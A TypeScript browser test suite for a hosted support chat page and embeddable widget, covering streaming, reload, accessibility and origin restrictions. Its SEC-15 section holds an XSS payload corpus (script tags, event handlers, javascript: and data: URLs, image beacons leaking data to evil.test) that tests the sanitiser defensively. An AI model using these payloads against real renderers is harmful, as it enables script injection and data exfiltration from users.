/**
 * The hosted chat page and the widget in a real browser (Debian's Chromium via playwright-core),
 * against real servers with the built front end (`npm run build:web` writes dist/web):
 * the page flow with the offline model answering from an article, an unknown slug, an XSS
 * corpus in articles and in streamed replies (TESTING.md SEC-15), reload while a reply streams,
 * keyboard-only use, an axe-core scan, and the widget on a page of another loopback origin,
 * allowed and refused. Saves docs/chat-page.png and docs/widget.png.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Agent, AgentEvent, AgentInput } from '../src/agents/types.ts';
import type { CancelSignal } from '../src/model/cancel.ts';
import { WEB_DIST } from '../src/public/web-assets.ts';
import { api } from './agents/sse.ts';
import { launchChromium } from './helpers/chromium.ts';
import { ScriptedAgent, sleep, type Script } from './helpers/scripted-agent.ts';
import { startTestServer, type TestServer } from './helpers/server.ts';

const repoRoot = resolve(import.meta.dirname, '..');
/** Set CHAT_SCREENSHOTS=docs to rewrite the screenshots that README shows (a plain run writes nothing). */
const SCREENSHOTS = process.env.CHAT_SCREENSHOTS ? resolve(repoRoot, process.env.CHAT_SCREENSHOTS) : undefined;
const TIMEOUT = 30_000;

/** The scripted agent, after an optional pause before its first delta (so the typing indicator shows). */
class SlowStartAgent implements Agent {
  readonly scripted = new ScriptedAgent({ deltas: [] });
  startDelayMs = 0;
  set script(script: Script) {
    this.scripted.script = script;
  }
  async *reply(input: AgentInput, signal: CancelSignal): AsyncIterable<AgentEvent> {
    if (this.startDelayMs > 0) await sleep(this.startDelayMs, signal);
    yield* this.scripted.reply(input, signal as Parameters<ScriptedAgent["reply"]>[1]);
  }
}

const SHIPPING = 'Orders ship within **2 business days** from our warehouse in Lyon. Tracking links arrive by email.';
const XSS_ARTICLE = [
  'Returns are free within 30 days.',
  '<script>window.__xss = "article-script"</script>',
  '<img src=x onerror="window.__xss = \'article-img\'">',
  '[Start a return](javascript:window.__xss=\'article-link\')',
  '<a href="javascript:window.__xss=1">return form</a>',
  '![pixel](http://evil.test/pixel.png?leak=returns)',
  '<svg onload="window.__xss=\'article-svg\'"></svg>',
  '<iframe src="javascript:window.__xss=5"></iframe>',
].join(' ');

/** Payloads split across deltas, as a model would stream them. */
const XSS_REPLY = [
  'Here you go: <scr',
  'ipt>window.__xss="reply-script"</scr',
  'ipt> ',
  '<img src=x oner',
  'ror="window.__xss=\'reply-img\'"> ',
  '[click](javas',
  'cript:window.__xss=3) ',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9OTwvc2NyaXB0Pg==) ',
  '![x](https://evil.test/steal?q=secret) ',
  '<svg><script>window.__xss=4</script></svg> ',
  '<details open ontoggle="window.__xss=6">d</details> ',
  '<math><mi xlink:href="javascript:window.__xss=7">m</mi></math> ',
  '&lt;b&gt; entity \u202Egnp.exe ',
  '[mail](mailto:help@example.org) ',
  '<a href="https://example.org/ok">safe link</a>',
];

async function startHostPage(html: (req: string) => string): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html(req.url ?? '/'));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server };
}

const assistantBubbles = (page: Page) => page.locator('li.msg.assistant .bubble');

// A browser test waits on Chromium, the server and the page at once: with the whole suite on two
// cores a step can take seconds, so each test gets 60 s (the default is 30 s).
describe('hosted chat page and widget in Chromium', { timeout: 60_000 }, () => {
  let browser: Browser;
  let offline: TestServer; // the offline model, answering from articles
  let scripted: TestServer; // a scripted agent: exact deltas, delays
  const agent = new SlowStartAgent();
  let slug: string;
  let scriptedSlug: string;
  let host: { url: string; server: Server };

  beforeAll(async () => {
    // The front end must be built: this test serves what `npm ci` / `npm run build` produce.
    readFileSync(join(WEB_DIST, 'chat', 'index.html'));
    offline = await startTestServer({ env: { PARLEY_OFFLINE_DELAY_MS: '40' } });
    scripted = await startTestServer({ agents: () => agent });
    slug = (await offline.store.getOrganization(offline.orgId))!.slug;
    scriptedSlug = (await scripted.store.getOrganization(scripted.orgId))!.slug;
    const m = (path: string, body: unknown, method = 'POST') => api(offline.url, offline.managementKey, method, `/api/v1/management${path}`, body);
    expect((await m('/knowledge', { title: 'Shipping times', content: SHIPPING })).status).toBe(201);
    expect((await m('/knowledge', { title: 'Returns policy', content: XSS_ARTICLE })).status).toBe(201);
    expect(
      (await m('/settings', { branding: { agentName: 'Ava', welcomeHeading: 'Welcome to Lyon Bikes', welcomeSubheading: 'Ask about orders, shipping and returns.' } }, 'PATCH')).status,
    ).toBe(200);
    host = await startHostPage(
      () => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Lyon Bikes shop</title>
<style>
  /* Hostile host CSS: none of it may reach the widget. */
  * { font-family: serif !important; }
  button { all: unset !important; background: red !important; width: 2px !important; height: 2px !important; }
  iframe { display: none !important; }
  .launcher, .panel { display: none !important; }
</style>
<script>document.addEventListener('parley:widget', (e) => { window.__widget = e.detail; });</script>
</head><body><h1>Lyon Bikes</h1><p>Our shop page, with the Parley widget.</p>
<script src="${offline.url}/widget.js" data-org="${slug}" async></script>
</body></html>`,
    );
    browser = await launchChromium();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await new Promise((done) => host?.server.close(done));
    await offline?.close();
    await scripted?.close();
  });

  /** `bypassCSP`: without the page's Content-Security-Policy, so the sanitiser alone is tested. */
  async function newPage(options: { bypassCSP?: boolean } = {}): Promise<{ page: Page; requests: string[]; errors: string[] }> {
    const context = await browser.newContext({ viewport: { width: 900, height: 760 }, bypassCSP: options.bypassCSP ?? false });
    const page = await context.newPage();
    const requests: string[] = [];
    const errors: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    page.on('pageerror', (e) => errors.push(String(e)));
    page.setDefaultTimeout(TIMEOUT);
    return { page, requests, errors };
  }

  async function ask(page: Page, question: string): Promise<string> {
    const before = await assistantBubbles(page).count();
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill(question);
    await box.press('Enter');
    // The reply is complete when its feedback buttons appear.
    await page.locator('li.msg.assistant').nth(before).getByRole('button', { name: 'Helpful', exact: true }).waitFor();
    return (await assistantBubbles(page).nth(before).innerText()).trim();
  }

  it('PUB-10 the page shows the branding, streams the answer from the article, takes feedback and starts over', async () => {
    const { page, errors } = await newPage();
    const response = await page.goto(`${offline.url}/chat/${slug}`);
    expect(response!.status()).toBe(200);
    await expect(page.getByRole('heading', { level: 1 }).innerText()).resolves.toBe('Welcome to Lyon Bikes');
    await expect(page.locator('.agent-name').innerText()).resolves.toBe('Ava');
    await expect(page.title()).resolves.toContain('Ava');

    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('How long does shipping take?');
    await box.press('Enter');
    await page.locator('li.msg.assistant').first().getByRole('button', { name: 'Helpful', exact: true }).waitFor();
    const answer = await assistantBubbles(page).first().innerText();
    expect(answer).toContain('2 business days');

    const conversationId = await page.evaluate(() => JSON.parse(localStorage.getItem(Object.keys(localStorage).find((k) => k.startsWith('parley:session:'))!)!).conversationId as string);
    await page.getByRole('button', { name: 'Helpful', exact: true }).click();
    await expect.poll(() => page.getByRole('button', { name: 'Helpful', exact: true }).getAttribute('aria-pressed')).toBe('true');
    const transcript = await api(offline.url, offline.managementKey, 'GET', `/api/v1/management/conversations/${conversationId}`);
    expect(JSON.stringify(transcript.body)).toContain('"up"');

    if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, 'chat-page.png') });

    await page.getByRole('button', { name: 'New conversation' }).click();
    await expect.poll(() => page.locator('li.msg').count()).toBe(0);
    // The list empties at once; the new session is opened after it, so wait for the stored id to change.
    const storedId = () => page.evaluate(() => JSON.parse(localStorage.getItem(Object.keys(localStorage).find((k) => k.startsWith('parley:session:'))!)!).conversationId as string);
    await expect.poll(storedId).not.toBe(conversationId);
    await expect.poll(storedId).toMatch(/^[0-9a-f-]{36}$/);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('PUB-11 an unknown slug gets a 404 page', async () => {
    const { page } = await newPage();
    const response = await page.goto(`${offline.url}/chat/no-such-shop`);
    expect(response!.status()).toBe(404);
    await expect(page.getByRole('heading', { level: 1 }).innerText()).resolves.toBe('Chat not found');
    await page.context().close();
  });

  it('SEC-15 script, handlers and javascript: URLs in an article and in a split-up streamed reply execute nothing and call no other host', async () => {
    // The pages run without their CSP here: the sanitiser alone must stop every payload (the CSP
    // is a second layer, which would otherwise hide a sanitiser gap).
    // An article quoted by the offline model.
    const a = await newPage({ bypassCSP: true });
    await a.page.goto(`${offline.url}/chat/${slug}`);
    const fromArticle = await ask(a.page, 'What is your returns policy?');
    expect(fromArticle).toContain('Returns are free within 30 days');
    // A reply streaming the corpus in pieces.
    agent.script = { deltas: XSS_REPLY, delayMs: 20 };
    const b = await newPage({ bypassCSP: true });
    await b.page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    const reply = await ask(b.page, 'Show me everything');
    expect(reply).toContain('safe link');
    await b.page.waitForTimeout(300);

    for (const { page, requests, errors } of [a, b]) {
      expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
      const origin = new URL(page.url()).origin;
      expect(requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'))).toEqual([]);
      const links = await page.locator('li.msg.assistant .bubble a').evaluateAll((as) => as.map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel') })));
      for (const link of links) {
        if (link.href !== null) expect(link.href).toMatch(/^(https?:|mailto:)/);
        expect(link.rel).toBe('noopener noreferrer');
      }
      const html = await page.locator('li.msg.assistant .bubble').evaluateAll((els) => els.map((e) => e.innerHTML).join('\n'));
      expect(html).not.toMatch(/<script|<iframe|<svg|onerror|onload|ontoggle|javascript:/i);
      expect(errors).toEqual([]);
    }
    const bLinks = await b.page.locator('li.msg.assistant .bubble a[href]').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
    expect(bLinks).toEqual(['mailto:help@example.org', 'https://example.org/ok']);
    await a.page.context().close();
    await b.page.context().close();
  });

  it('PUB-12 a reload while a reply streams resumes it without losing or repeating text', async () => {
    const deltas = Array.from({ length: 30 }, (_, i) => `part${i} `);
    agent.script = { deltas, delayMs: 120 };
    const { page } = await newPage();
    await page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('Tell me a long story');
    await box.press('Enter');
    await expect.poll(() => assistantBubbles(page).first().innerText(), { timeout: TIMEOUT }).toContain('part3 ');
    const shownBefore = await assistantBubbles(page).first().innerText();
    expect(shownBefore).not.toContain('part29');
    await page.reload();
    await page.locator('li.msg.assistant').first().getByRole('button', { name: 'Helpful', exact: true }).waitFor();
    const bubbles = await assistantBubbles(page).allInnerTexts();
    expect(bubbles).toHaveLength(1);
    expect(bubbles[0]!.trim()).toBe(deltas.join('').trim());
    // The user's message is shown once too.
    await expect(page.locator('li.msg.user').allInnerTexts()).resolves.toHaveLength(1);
    await page.context().close();
  });

  it('PUB-25 a message sent while the page is still opening its session or reading its history is sent once it has, and answered on screen', async () => {
    // The page's start-up requests are held in the browser until the message is sent: a busy
    // machine does the same by chance (the test types as soon as the page has loaded).
    agent.script = { deltas: ['Glad ', 'to help.'], delayMs: 10 };
    /** Holds the page's next `method` request to `url` until `release()`; `held` resolves once it waits. */
    const hold = async (page: Page, url: RegExp, method: string) => {
      let arrived!: () => void;
      let release!: () => void;
      const held = new Promise<void>((resolve) => (arrived = resolve));
      const released = new Promise<void>((resolve) => (release = resolve));
      await page.route(url, async (route) => {
        if (route.request().method() !== method) return route.continue();
        arrived();
        await released;
        await route.continue();
      });
      return { held, release };
    };
    const sendAndRead = async (page: Page) => {
      await page.locator('li.msg.assistant').first().getByRole('button', { name: 'Helpful', exact: true }).waitFor();
      await expect(page.locator('li.msg.user .bubble').allInnerTexts()).resolves.toEqual(['Can you help?']);
      expect((await assistantBubbles(page).allInnerTexts()).map((t) => t.trim())).toEqual(['Glad to help.']);
    };

    // Sent before the session is open: not dropped.
    const first = await newPage();
    const session = await hold(first.page, /\/api\/v1\/public\/[^/]+\/sessions$/, 'POST');
    await first.page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    await session.held;
    await first.page.getByRole('textbox', { name: 'Message' }).fill('Can you help?');
    await first.page.getByRole('textbox', { name: 'Message' }).press('Enter');
    session.release();
    await sendAndRead(first.page);
    expect(first.errors).toEqual([]);
    await first.page.context().close();

    // Sent with the session open but the history not yet read: the history, arriving after the
    // message, does not wipe its reply off the screen. The reply starts late, as a slow model's
    // would, so the history is in before its first event.
    agent.startDelayMs = 1000;
    try {
      const second = await newPage();
      const history = await hold(second.page, /\/api\/v1\/customer\/conversations\/[^/]+\/messages$/, 'GET');
      await second.page.goto(`${scripted.url}/chat/${scriptedSlug}`);
      await history.held;
      await second.page.getByRole('textbox', { name: 'Message' }).fill('Can you help?');
      await second.page.getByRole('textbox', { name: 'Message' }).press('Enter');
      // The history goes on once the message is on its way (at once if the page sends it before
      // its history, as it once did), or after a second if the page waits for its history.
      await second.page.waitForRequest((r) => r.method() === 'POST' && /\/messages$/.test(r.url()), { timeout: 1000 }).catch(() => undefined);
      history.release();
      await sendAndRead(second.page);
      expect(second.errors).toEqual([]);
      await second.page.context().close();
    } finally {
      agent.startDelayMs = 0;
    }
  });

  it('PUB-13 keyboard only: reach the textbox, send with Enter (typing indicator first), rate with Space, start over with Enter', async () => {
    agent.script = { deltas: ['Sure, ', 'happy to help.'], delayMs: 10 };
    agent.startDelayMs = 1500; // long enough to see the typing indicator before the first delta
    const { page } = await newPage();
    await page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    const focused = () => page.evaluate(() => document.activeElement?.getAttribute('aria-label') || document.activeElement?.id || document.activeElement?.textContent?.trim() || '');
    const order: string[] = [];
    for (let i = 0; i < 2; i++) {
      await page.keyboard.press('Tab');
      order.push(await focused());
    }
    expect(order).toEqual(['New conversation', 'message']);
    await page.keyboard.type('Can you help?');
    await page.keyboard.press('Enter');
    await page.getByRole('status').filter({ hasText: 'is typing' }).waitFor();
    await page.locator('li.msg.assistant').first().getByRole('button', { name: 'Not helpful' }).waitFor();
    agent.startDelayMs = 0;
    await expect.poll(focused).toBe('message');
    await page.keyboard.press('Shift+Tab');
    expect(await focused()).toBe('Not helpful');
    await page.keyboard.press('Space');
    await expect.poll(() => page.getByRole('button', { name: 'Not helpful' }).getAttribute('aria-pressed')).toBe('true');
    await page.keyboard.press('Shift+Tab');
    expect(await focused()).toBe('Helpful');
    // Back to the top: the "New conversation" button.
    for (let i = 0; i < 10 && (await focused()) !== 'New conversation'; i++) await page.keyboard.press('Shift+Tab');
    expect(await focused()).toBe('New conversation');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('li.msg').count()).toBe(0);
    await page.context().close();
  });

  it('PUB-19 an escalated reply shows the escalation notice', async () => {
    agent.script = { deltas: ['Let me get a colleague for you.'], delayMs: 0, escalate: 'asked for a human' };
    const { page } = await newPage();
    await page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    await ask(page, 'I want to talk to a person');
    await expect(page.getByRole('status').filter({ hasText: 'passed your conversation to our support team' }).isVisible()).resolves.toBe(true);
    agent.script = { deltas: ['ok'] };
    await page.context().close();
  });

  it('PUB-22 staff replies and status changes arrive live on the page, and staff replies stay after a reload', async () => {
    const { page, errors } = await newPage();
    await page.goto(`${offline.url}/chat/${slug}`);
    await ask(page, 'How long does shipping take?');
    const conversationId = await page.evaluate(() => JSON.parse(localStorage.getItem(Object.keys(localStorage).find((k) => k.startsWith('parley:session:'))!)!).conversationId as string);
    const m = (path: string, body?: unknown) => api(offline.url, offline.managementKey, 'POST', `/api/v1/management/conversations/${conversationId}${path}`, body);
    expect((await m('/replies', { message: 'Hi, Sam from the shop here. Your parcel left today.', author: 'Sam' })).status).toBe(201);
    await page.locator('li.msg.staff').filter({ hasText: 'Your parcel left today' }).waitFor();
    await expect(page.locator('li.msg.staff .who').innerText()).resolves.toBe('Sam');
    expect((await m('/resolve')).status).toBe(200);
    await page.getByRole('status').filter({ hasText: 'resolved' }).waitFor();
    await page.reload();
    await page.locator('li.msg.staff').filter({ hasText: 'Your parcel left today' }).waitFor();
    await expect(page.locator('li.msg.staff').count()).resolves.toBe(1);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('PUB-14 axe-core finds no serious or critical violation on the page with a conversation, nor on the 404 page', async () => {
    const axeSource = readFileSync(join(repoRoot, 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
    agent.script = { deltas: ['**Hello!** See [our help](https://example.org/help).'], delayMs: 0 };
    const { page } = await newPage();
    await page.goto(`${scripted.url}/chat/${scriptedSlug}`);
    await ask(page, 'Hello');
    await expect(assistantBubbles(page).first().locator('strong').innerText()).resolves.toBe('Hello!'); // Markdown rendered
    /** Serious and critical violations on the current page. */
    const scan = async () => {
      await page.evaluate(axeSource); // evaluated over the devtools protocol: the page's CSP does not apply
      const violations = await page.evaluate(async () => {
        const result = await (window as unknown as { axe: { run: () => Promise<{ violations: { id: string; impact: string; nodes: unknown[] }[] }> } }).axe.run();
        return result.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.length }));
      });
      return violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
    };
    expect(await scan()).toEqual([]);
    await page.goto(`${scripted.url}/chat/no-such-shop`);
    expect(await scan()).toEqual([]);
    await page.context().close();
    // Two full axe scans: seconds each when the suite keeps both cores busy (CI timed out at 30 s).
  }, 120_000);

  it('PUB-15 the widget on a page of another loopback origin opens the chat in a panel and gets an answer; host CSS does not reach it', async () => {
    const { page, errors } = await newPage();
    await page.goto(host.url);
    await page.waitForFunction(() => (window as { __widget?: unknown }).__widget !== undefined);
    expect(await page.evaluate(() => (window as { __widget?: { status: string } }).__widget!.status)).toBe('ready');
    const launcher = page.locator('parley-widget').getByRole('button', { name: 'Open chat with Ava' });
    const box = await launcher.boundingBox();
    expect(box!.width).toBeGreaterThan(40); // the host's `button { width: 2px }` did not apply
    await launcher.click();
    const frame = page.frameLocator('parley-widget iframe');
    await frame.getByRole('heading', { level: 1 }).waitFor();
    const input = frame.getByRole('textbox', { name: 'Message' });
    await input.fill('How long does shipping take?');
    await input.press('Enter');
    await frame.locator('li.msg.assistant').first().getByRole('button', { name: 'Helpful', exact: true }).waitFor();
    expect(await frame.locator('li.msg.assistant .bubble').first().innerText()).toContain('2 business days');
    if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, 'widget.png') });
    // The launcher closes the panel and keeps focus; from the keyboard: Enter opens, Escape closes.
    await page.locator('parley-widget').getByRole('button', { name: 'Close chat with Ava' }).click();
    const reopen = page.locator('parley-widget').getByRole('button', { name: 'Open chat with Ava' });
    await expect(reopen.isVisible()).resolves.toBe(true);
    await expect(page.locator('parley-widget .panel').isHidden()).resolves.toBe(true);
    await page.keyboard.press('Enter');
    await expect(page.locator('parley-widget .panel').isVisible()).resolves.toBe(true);
    await page.locator('parley-widget').getByRole('button', { name: 'Close chat with Ava' }).focus();
    await page.keyboard.press('Escape');
    await expect(page.locator('parley-widget .panel').isHidden()).resolves.toBe(true);
    expect(await page.evaluate(() => document.querySelector('parley-widget')?.shadowRoot?.activeElement?.getAttribute('aria-label'))).toBe('Open chat with Ava');
    // Escape inside the chat (the frame) closes the panel too.
    await page.keyboard.press('Enter');
    await frame.getByRole('textbox', { name: 'Message' }).press('Escape');
    await expect.poll(() => page.locator('parley-widget .panel').isHidden()).toBe(true);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('PUB-16 the widget on an origin the organization does not allow shows nothing, and the page refuses to be framed there', async () => {
    const patch = (allowedOrigins: string[]) =>
      api(offline.url, offline.managementKey, 'PATCH', '/api/v1/management/settings', { publicChat: { allowedOrigins } });
    expect((await patch(['https://shop.example'])).status).toBe(200);
    try {
      const { page } = await newPage();
      await page.goto(host.url);
      await page.waitForFunction(() => (window as { __widget?: unknown }).__widget !== undefined);
      expect(await page.evaluate(() => (window as { __widget?: { status: string; httpStatus?: number } }).__widget)).toEqual({ status: 'refused' }); // the 403 carries no CORS header: the page cannot even read it
      await expect(page.locator('parley-widget').count()).resolves.toBe(0);
      // Framing the page directly is blocked by its frame-ancestors.
      await page.evaluate((src) => {
        const f = document.createElement('iframe');
        f.src = src;
        document.body.appendChild(f);
      }, `${offline.url}/chat/${slug}?embed=1`);
      await page.waitForTimeout(1000);
      const chatFrame = page.frames().find((f) => f !== page.mainFrame());
      const framedTextbox = chatFrame ? await chatFrame.locator('#message').count() : 0;
      expect(framedTextbox).toBe(0);
      // The same page is allowed once its origin is on the list.
      expect((await patch(['https://shop.example', host.url])).status).toBe(200);
      await page.reload();
      await page.waitForFunction(() => (window as { __widget?: unknown }).__widget !== undefined);
      expect(await page.evaluate(() => (window as { __widget?: { status: string } }).__widget!.status)).toBe('ready');
      await page.context().close();
    } finally {
      await patch([]);
    }
  });
});
